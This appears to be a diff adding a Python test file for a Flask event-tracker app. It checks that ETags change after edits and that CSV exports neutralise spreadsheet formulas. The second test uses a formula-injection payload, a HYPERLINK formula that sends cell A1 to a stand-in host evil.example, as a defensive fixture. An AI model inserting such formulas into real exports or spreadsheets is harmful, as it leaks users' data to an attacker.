@@ -1,0 +1,53 @@
+"""The ETag follows edits: a change to the data makes the old tag stale."""
+
+from __future__ import annotations
+
+from sqlalchemy import select
+
+from tracker.extensions import db
+from tracker.models import Event
+
+
+def test_an_edit_or_delete_changes_the_etag(loaded_app):
+    client = loaded_app.test_client()
+    etag = client.get("/events.json").headers["ETag"]
+    with loaded_app.app_context():
+        event = db.session.scalars(select(Event).order_by(Event.slug)).first()
+        event.title = event.title + " (edited)"
+        db.session.commit()
+    response = client.get("/events.json", headers={"If-None-Match": etag})
+    assert response.status_code == 200
+    etag2 = response.headers["ETag"]
+    with loaded_app.app_context():
+        event = db.session.scalars(select(Event).order_by(Event.slug)).first()
+        for citation in list(event.citations):
+            db.session.delete(citation)
+        db.session.delete(event)
+        db.session.commit()
+    assert client.get("/events.json", headers={"If-None-Match": etag2}).status_code == 200
+
+
+def test_formula_in_a_source_title_is_neutralised_in_every_csv(loaded_app):
+    from tracker.models import Citation, Source
+
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    with loaded_app.app_context():
+        other = db.session.scalars(select(Event).where(
+            Event.slug == "amazon-announces-rekognition-police-moratorium")).one()
+        source = Source(slug="evil-source", kind="news_article", title=evil, url="https://evil.example/")
+        event = Event(slug="quarantined-event", date=other.date, date_precision="day",
+                      certainty="verified", kind="report", actor=other.actor,
+                      title="An event documented only by the evil source")
+        event.citations.append(Citation(source=source, role="mention"))
+        db.session.add_all([source, event])
+        db.session.commit()
+    client = loaded_app.test_client()
+    for url in ("/sources.csv", "/sources.csv?q=HYPERLINK", "/events.csv?q=documented+evil",
+                "/events.csv?bom=1", "/sources.csv?kind=news_article"):
+        text = client.get(url).get_data(as_text=True)
+        assert "HYPERLINK" in text, url
+        for line in text.splitlines():
+            for cell in line.split(","):
+                assert not cell.lstrip('"').startswith("=HYPERLINK"), (url, line)
+        assert "'=HYPERLINK" in text, url
